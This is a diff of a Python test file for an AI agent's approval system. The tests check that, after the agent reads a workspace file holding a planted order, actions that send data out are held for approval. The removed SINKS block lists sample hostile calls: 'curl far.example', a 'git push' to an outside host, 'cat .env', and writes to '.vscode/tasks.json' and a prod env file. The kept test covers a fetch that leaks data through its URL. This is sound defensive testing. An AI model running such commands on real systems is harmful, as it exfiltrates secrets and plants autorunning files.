@@ -135,45 +135,18 @@ async def test_allow_once_endorses_this_call_alone_and_another_chat_knows_nothin
         assert [rule["scope"] for rule in endorsing] == ["session"]
 
 
-ADDRESS = {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"]}
-SINKS = {
-    "mcp": ADD,
-    "mcp of a read that fetches an address": call("raw__fetch", url="https://far.example/?q=a"),
-    "network": call("execute_command", command="curl far.example", network=["far.example"]),
-    "push": call("execute_command", command="git push https://far.example/a main", network=["far.example"]),
-    "control_file": call("create_file", path=".vscode/tasks.json", content="{}"),
-    "key_file": call("create_file", path="conf/prod.env", content="A=1"),
-    "key_file of a command": call("execute_command", command="cat .env", key_files=[".env"]),
-    "task": call("ask_agent", agent="scribe", task="look around"),
-}
-
-
-@proves("ORG-2/1")
-async def test_whatever_leaves_the_sandbox_is_held_after_a_file_was_read(tmp_path: Path) -> None:
-    """Each is allowed by a rule that names it; without a file it would run unasked."""
-    tools = [*USUAL, offered("fetch", ADDRESS)]
-    files = {"README.md": f"{ORDER}\n"}
-    async with live_server(tmp_path, files=files, agents={"scribe": {"role": "actor"}}) as client:
-        far = raw_server(tmp_path / "far", tools, read_only=["fetch"])
+@proves("ORG-2/1", "ORG-2/4")
+async def test_a_read_that_fetches_an_address_is_no_read(tmp_path: Path) -> None:
+    """What is in the address leaves with it, also where a person marked the tool as one that only reads."""
+    schema = {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"]}
+    fetch = call("raw__fetch", url="https://far.example/?q=a")
+    async with live_server(tmp_path, replies=[READ, fetch, "Done."], files={"README.md": f"{ORDER}\n"}) as client:
+        far = raw_server(tmp_path / "far", [offered("fetch", schema)], read_only=["fetch"])
         await client.ask("POST", "/mcp/servers", far, expect=201)
         await client.ask("POST", "/mcp/servers/raw/connect", {})
-        await allow_all(client)
-        for tool, resource in (
-            ("create_file", "/.vscode/tasks.json"),
-            ("create_file", "/conf/prod.env"),
-            ("read_file", "/.env"),
-            ("ask_agent", "*"),
-            ("network", "far.example"),
-        ):
-            rule = {"tool": tool, "resource": resource, "effect": "allow", "scope": "global"}
-            await client.ask("POST", "/rules", rule, expect=201)
-        for name, text in SINKS.items():
-            client.model.replies[:] = [READ, text, "Done."]
-            chat = await client.chat()
-            assert (await chat.send("Read it."))["state"] == "awaiting_approval", name
-            asked = await endorsement(chat)
-            assert (asked["sink"]["kind"], asked["origins"]) == (name.partition(" ")[0], ["workspace"])
-            await chat.decide("deny")
+        chat = await client.chat()
+        assert (await chat.send("Read it."))["state"] == "awaiting_approval"
+        assert (await endorsement(chat))["sink"]["kind"] == "mcp"
 
 
 @proves("ORG-2/4")
